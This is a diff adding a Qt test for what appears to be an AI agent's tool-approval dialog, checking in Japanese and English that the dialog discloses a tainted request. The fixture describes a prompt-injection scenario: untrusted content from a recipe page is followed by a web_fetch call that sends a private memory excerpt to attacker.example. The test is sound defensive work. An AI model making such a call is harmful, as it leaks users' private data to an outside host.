@@ -193,3 +193,52 @@ def test_the_popup_names_the_action_its_whole_target_the_person_and_the_device(
     first = dialog.countdown.text()
     qtbot.waitUntil(lambda: dialog.countdown.text() != first, timeout=2500)
     assert int(first.split()[-2]) > int(dialog.countdown.text().split()[-2])
+
+
+def _tainted_request() -> ApprovalRequest:
+    args = {"url": "https://attacker.example/c?d=dentist+at+4"}
+    return ApprovalRequest(
+        approval_id="a2",
+        tool="web_fetch",
+        arguments=args,
+        digest=args_digest("web_fetch", args),
+        risk=Risk.MEDIUM,
+        requester="owner",
+        requester_role=Role.OWNER,
+        channel="tray",
+        reason="'web_fetch' could send data out ...",
+        expires_at=time.time() + 60,
+        details={
+            "sends_to": "https://attacker.example/c?d=dentist+at+4",
+            "body": "",
+            "untrusted_sources": [{"tool": "web_fetch", "where": "https://recipes.example/%1"}],
+            "private_reads": [{"tool": "memory_recall", "what": "{}", "excerpt": "dentist at 4"}],
+        },
+    )
+
+
+def test_the_taint_disclosure_speaks_the_trays_language(qtbot: Any, qapp: Any) -> None:
+    """What would leave, to where, and the turn's private reads: in Japanese with the
+    translation installed, in English without; the untrusted address is shown as it is."""
+    from app.tray import i18n
+
+    translator = i18n.install(qapp, "ja")
+    assert translator is not None
+    try:
+        dialog = ApprovalDialog(_tainted_request())
+        qtbot.addWidget(dialog)
+        shown = dialog.arguments.toPlainText()
+        assert "送信先: https://attacker.example/c?d=dentist+at+4" in shown
+        assert "信頼できない内容（web_fetch https://recipes.example/%1）" in shown
+        assert (
+            "この会話で読み取られた個人データ" in shown
+            and "memory_recall {}: dentist at 4" in shown
+        )
+        assert "Sends to" not in shown
+    finally:
+        qapp.removeTranslator(translator)
+    english_dialog = ApprovalDialog(_tainted_request())
+    qtbot.addWidget(english_dialog)
+    english = english_dialog.arguments.toPlainText()
+    assert "Sends to: https://attacker.example/c?d=dentist+at+4" in english
+    assert "Private data read in this turn" in english and "送信先" not in english
